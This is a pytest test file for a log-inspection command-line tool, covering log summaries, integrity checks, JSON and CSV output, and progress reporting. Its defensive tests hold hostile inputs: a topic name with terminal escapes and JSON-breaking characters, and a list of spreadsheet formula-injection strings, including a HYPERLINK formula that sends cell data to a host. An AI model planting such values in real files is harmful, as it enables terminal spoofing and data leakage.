"""`tunenet-logs info` and `check`: what is in a log, and whether it is whole; text and JSON."""

from __future__ import annotations

import csv
import json
import os
import re
import subprocess
from pathlib import Path
from typing import Any, NoReturn

import numpy as np
import pytest

import tunenet_logs as tn
from tests.conftest import BIN, ROOT, Command, real, record
from tests.strangers import Stranger, write_poses
from tunenet_logs import terminal
from tunenet_logs.copying import check
from tunenet_logs.describe import describe, gaps_s
from tunenet_logs.episode import EpisodeInfo, Frame
from tunenet_logs.files import csv_line, json_line, text_of
from tunenet_logs.reader import read_episode
from tunenet_logs.terminal import Progress, _listener, about, heard_by, told
from tunenet_logs.writing.writer import EpisodeWriter

# A topic that ends lines, clears terminals, turns text around and closes JSON's quotes.
HOSTILE = '/a"b\\\n\x1b[2J\u202e\u2028{}'


def test_info_tells_what_is_in_a_log(process: Command, drop_log: Path):
    result = process("tunenet-logs", "info", drop_log)
    assert result.returncode == 0
    for fact in ("kind: drop", "/ball/pose", "PoseStamped", "400", "60.0 Hz", "restitution 0.7"):
        assert fact in result.stdout


def test_a_full_disk_behind_standard_output_is_one_line(drop_log: Path):
    with Path("/dev/full").open("w") as full:
        words = [BIN / "tunenet-logs", "info", drop_log]
        result = subprocess.run(words, stdout=full, stderr=subprocess.PIPE, text=True, timeout=60)
    assert result.returncode == 1
    assert result.stderr.count("\n") == 1


@pytest.mark.parametrize(
    ("words", "code", "says"),
    [
        ((), 2, ""),
        (("info", "a.txt"), 1, "a.txt"),
        (("info", "a" * 300 + ".mcap"), 1, ""),
        (("info", "pipe.mcap"), 1, "regular file"),  # rather than waited for
    ],
)
def test_what_is_no_log_is_one_line(
    command: Command, tmp_path: Path, words: tuple[str, ...], code: int, says: str
):
    (tmp_path / "a.txt").write_text("hello")
    os.mkfifo(tmp_path / "pipe.mcap")
    result = command("tunenet-logs", *words, cwd=tmp_path)
    assert result.returncode == code
    assert result.stderr.count("\n") == 1
    assert says in result.stderr


def test_a_gap_is_seen_in_figures_and_on_the_timeline(tmp_path: Path):
    stamps, positions = Stranger(0.6, rate_hz=100, seconds=5.0).samples()
    keep = (np.arange(len(stamps)) < 200) | (np.arange(len(stamps)) >= 300)
    write_poses(tmp_path / "a.mcap", stamps[keep], positions[keep], "/ball")
    text = describe(tmp_path / "a.mcap", read_episode(tmp_path / "a.mcap"))
    assert "1 to 1.01 s" in text
    [line] = [one for one in text.splitlines() if one.startswith("  /ball |")]
    marks = line.split("|")[1]
    assert len(marks) == 60
    assert 8 <= marks.count(" ") <= 10
    assert marks.strip()[0] == marks.strip()[-1] == "#"
    assert "from 2023-11-14 22:13:20 UTC" in text
    assert not len(gaps_s(np.arange(100) * 10_000_000))
    assert not len(gaps_s(np.array([5])))
    for count in (0, 1):  # one message or none
        path = tmp_path / f"{count}.mcap"
        write_poses(path, stamps[:count], positions[:count])
        assert f"{count}" in describe(path, read_episode(path))


# Whether a log is whole, and where it is not.
def test_whole_logs_pass(command: Command, drop_log: Path, filmed_log: Path, tmp_path: Path):
    result = command("tunenet-logs", "check", drop_log, filmed_log)
    assert result.returncode == 0, result.stdout
    assert result.stdout.count(": whole, ") == 2
    assert result.stderr == ""
    write_poses(tmp_path / "a.mcap", *Stranger(0.6).samples())  # without a checksum of all data
    result = command("tunenet-logs", "check", tmp_path / "a.mcap")
    assert result.returncode == 0
    assert "cannot be vouched for" in result.stdout


def test_damage_is_named_with_its_place(command: Command, drop_log: Path):
    data = bytearray(drop_log.read_bytes())
    at = data.index(b"zstd") + 2000
    data[at] ^= 1
    drop_log.write_bytes(bytes(data))
    result = command("tunenet-logs", "check", drop_log)
    assert result.returncode == 1
    [line] = [one for one in result.stdout.splitlines() if "chunk" in one]
    start, end = (int(word.strip("()")) for word in line.split() if word.strip("()").isdecimal())
    assert start < at < end


@pytest.mark.parametrize("share", [0.0, 0.3, 0.6, 0.999])
def test_a_cut_log_never_passes(drop_log: Path, command: Command, share: float):
    data = drop_log.read_bytes()
    drop_log.write_bytes(data[: max(9, int(share * len(data)))])
    assert command("tunenet-logs", "check", drop_log).returncode == 1


@pytest.mark.parametrize("more", [b"garbage", b""], ids=["bytes", "another log"])
def test_what_follows_the_end_is_said(drop_log: Path, command: Command, more: bytes):
    data = drop_log.read_bytes()
    drop_log.write_bytes(data + (more or data))
    result = command("tunenet-logs", "check", drop_log)
    assert result.returncode == 1
    assert ("bytes follow" if more else "another log follows") in result.stdout


def test_damaged_pictures_are_counted_and_one_bad_file_hides_no_other(
    command: Command, drop_log: Path, tmp_path: Path, filmed_log: Path
):
    with EpisodeWriter(tmp_path / "a.mcap", EpisodeInfo()) as writer:
        for number, frame in enumerate(read_episode(filmed_log).frames()):
            data = frame.data[:1000] if number in (3, 7) else frame.data
            writer.write_frame("/camera", Frame(frame.stamp_ns, "jpeg", data))
    [line] = check(tmp_path / "a.mcap", Progress(quiet=True)).damage
    assert "2 of" in line
    (tmp_path / "bad.mcap").write_bytes(b"nothing")
    result = command("tunenet-logs", "check", tmp_path / "bad.mcap", drop_log)
    assert result.returncode == 1
    assert f"{drop_log}: whole" in result.stdout
    assert result.stderr.count("\n") == 1


# As strict JSON, with the promised keys, of any log.
def strict(text: str) -> list[dict[str, Any]]:
    """Objects, one a line, of JSON as its standard has it."""

    def refuse(word: str) -> NoReturn:
        raise ValueError(word)

    return [json.loads(line, parse_constant=refuse) for line in text.splitlines()]


def promised_keys(verb: str) -> set[str]:
    """The keys that docs/logs.md has in its table of a verb."""
    text = (ROOT / "docs" / "logs.md").read_text()
    section = text.split(f"`{verb} --json`:", 1)[1].split("\n\n", 2)[1]
    rows = [row.split("|")[1] for row in section.splitlines()]
    return {key for row in rows for key in re.findall(r"`(\w+)`", row)}


def test_info_tells_a_script_what_it_tells_a_person(
    command: Command, drop_log: Path, tmp_path: Path
):
    [found] = strict(command("tunenet-logs", "info", drop_log, "--json").stdout)
    assert (found["log"], found["error"]) == (str(drop_log), None)
    assert found["bytes"] == drop_log.stat().st_size
    assert (found["kind"], found["truth"]["restitution"]) == ("drop", 0.7)
    [channel] = found["channels"]
    assert (channel["topic"], channel["messages"], channel["used"]) == ("/ball/pose", 400, True)
    assert channel["rate_hz"] == pytest.approx(60)
    assert found["duration_s"] == pytest.approx(399 / 60)
    stamps_ns = np.arange(100) * 10_000_000
    stamps_ns[50:] += 2 * 10**9
    write_poses(tmp_path / "gap.mcap", stamps_ns, np.zeros((100, 3)))
    [found] = strict(command("tunenet-logs", "info", tmp_path / "gap.mcap", "--json").stdout)
    [channel] = found["channels"]
    assert (channel["gaps"], channel["longest_gap_s"]) == (1, pytest.approx(2.01))


def test_check_tells_damage_with_the_exit_code(command: Command, drop_log: Path, tmp_path: Path):
    (tmp_path / "cut.mcap").write_bytes(drop_log.read_bytes()[:-500])
    result = command("tunenet-logs", "check", drop_log, tmp_path / "cut.mcap", "--json")
    whole, cut = strict(result.stdout)
    assert result.returncode == 1
    assert (whole["whole"], whole["damage"], whole["messages"]) == (True, [], 400)
    assert cut["whole"] is False
    assert cut["damage"]


@pytest.mark.parametrize("verb", ["info", "check"])
def test_the_keys_are_those_of_the_document(
    command: Command, drop_log: Path, tmp_path: Path, verb: str
):
    """Those of a log that cannot be read, too: a script needs no second way."""
    (tmp_path / "no.mcap").write_text("no log")
    result = command("tunenet-logs", verb, drop_log, tmp_path / "no.mcap", "--json")
    read, unread = strict(result.stdout)
    assert result.returncode == 1
    assert set(read) == set(unread) == promised_keys(verb)
    assert unread["error"] in result.stderr
    assert {key for key, value in unread.items() if value is not None} <= {"log", "error", "whole"}


@pytest.mark.parametrize(
    "name",
    [
        *("ros1/jaco2_6dof_bsd3.bag", "ros1/jaco2_no_effort.bag", "labs/markers_analogs.c3d"),
        *("labs/tracker_multi_data.txt", "mcap_rosbag2/cdr_test_cdr_test_0.mcap"),
        *("mcap_conformance/NoData.mcap", "labs/lerobot_episode.parquet"),
    ],
)
def test_files_of_strangers_give_the_promised_keys(command: Command, name: str):
    for verb in ("info", "check"):
        [found] = strict(command("tunenet-logs", verb, real(name), "--json").stdout)
        assert set(found) == promised_keys(verb)


def test_names_that_attack_are_data_and_no_number_is_nan(command: Command, tmp_path: Path):
    path = tmp_path / os.fsdecode(b"\xff\x1b[31m\n.mcap")
    write_poses(path, np.arange(10) * 10**7, np.zeros((10, 3)), topic=HOSTILE)
    for verb in ("info", "check"):
        text = command("tunenet-logs", verb, path, "--json").stdout
        assert text.isascii()
        assert text.removesuffix("\n").isprintable()
        [found] = strict(text)
        assert os.fsencode(found["log"]) == os.fsencode(path)
        assert verb == "check" or found["channels"][0]["topic"] == HOSTILE
    line = json_line({"a": float("nan"), "b": [np.float64("inf"), np.int64(3)], "c": {"d": -0.5}})
    assert strict(line) == [{"a": None, "b": [None, 3], "c": {"d": -0.5}}]


# No cell of a table of ours is a formula, and each is read back as it was.
TEXTS = [
    '=HYPERLINK("http://example.org/?"&A1,"click")', "=1+1", "+1+1", "-1+1", "-", "@SUM(A1)",
    "\t=1", "\r=1", "\n=1", " =1", "'=1", "''=1", "\ufeff=1", "\uff1d1", "\0=1",
    "it's", "'quoted'", "a,b", "a;=1", 'say "x"', "two\nlines", "", "drop.mcap", "/ball", "1/2",
]  # fmt: skip


@pytest.mark.parametrize("text", TEXTS)
def test_a_text_is_inert_and_comes_back(text: str):
    (cell,) = csv.reader(csv_line([text]).splitlines(keepends=True)) if text else ([""],)
    assert cell[0].lstrip(" \t\r\n\0\ufeff")[:1] not in (*"=+-@", "\uff1d")
    assert cell[0][:1] not in ("\t", "\r", "\n")
    assert text_of(cell[0]) == text


def test_numbers_stay_numbers_and_the_name_of_a_log_is_no_formula(tmp_path: Path, command: Command):
    line = csv_line([-1, -0.5, np.float64(-2e-7), "-1.5", "+3", "1e-5", None, float("nan"), True])
    assert line == "-1,-0.5,-2e-07,-1.5,+3,1e-5,,,True\n"
    record(tmp_path / "=1+1.mcap", restitution=0.7, height_m=1.0)
    tune = ("tunenet-tune", ".", "-o", "out", "--csv", "all.csv", "--no-review")
    for words in (tune, ("tunenet-compare", "out", "--csv", "compared.csv")):
        done = command(*words, cwd=tmp_path)
        assert done.returncode == 0, done.stderr
    for name in ("all.csv", "compared.csv"):
        with (tmp_path / name).open(newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert not any(cell.startswith("=") for cell in cells)
    assert "=1+1.mcap" in map(text_of, cells)


# How far work is: told where it is done, heard by whoever listens.
def test_a_listener_hears_the_beginning_and_the_end_and_only_in_its_block():
    heard: list[tuple[str, float]] = []
    with heard_by(lambda what, fraction: heard.append((what, fraction))):
        assert list(told(range(5), "counting", 5)) == list(range(5))
    assert list(told(range(5), "counting on", 5)) == list(range(5))
    assert heard[0] == ("counting", 0.0)
    assert heard[-1] == ("counting", 1.0)


def test_a_film_tells_its_stages_to_a_function():
    heard: list[tuple[str, float]] = []
    film = ROOT / "sample_logs" / "filmed.mcap"
    tn.tune(film, progress=lambda what, fraction: heard.append((what, fraction)))
    assert list(dict.fromkeys(what for what, _ in heard))[:4] == [
        "reading", "decoding the pictures", "finding what moves", "following the ball",
    ]  # fmt: skip
    assert all(0 <= fraction <= 1 for _, fraction in heard)


def test_work_that_lasts_is_announced_now_and_then(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture
):
    now_s = 0.0
    monkeypatch.setattr(terminal.time, "monotonic", lambda: now_s)  # a clock, not a machine's speed
    with Progress().stages("a.mp4"):
        hear = _listener.get()
        assert hear is not None
        for step in range(100):
            now_s = float(step)
            hear("following the ball", step / 100)
    said = capsys.readouterr().err.splitlines()
    lefts = ("2 min", "70 s", "40 s")
    assert said == [f"a.mp4: following the ball: about {left} more" for left in lefts]
    with Progress(quiet=True).stages("a.mp4"):
        assert _listener.get() is None
    times = {12.0: "10 s", 44.0: "40 s", 200.0: "3 min", 9000.0: "2.5 h"}
    assert {seconds: about(seconds) for seconds in times} == times
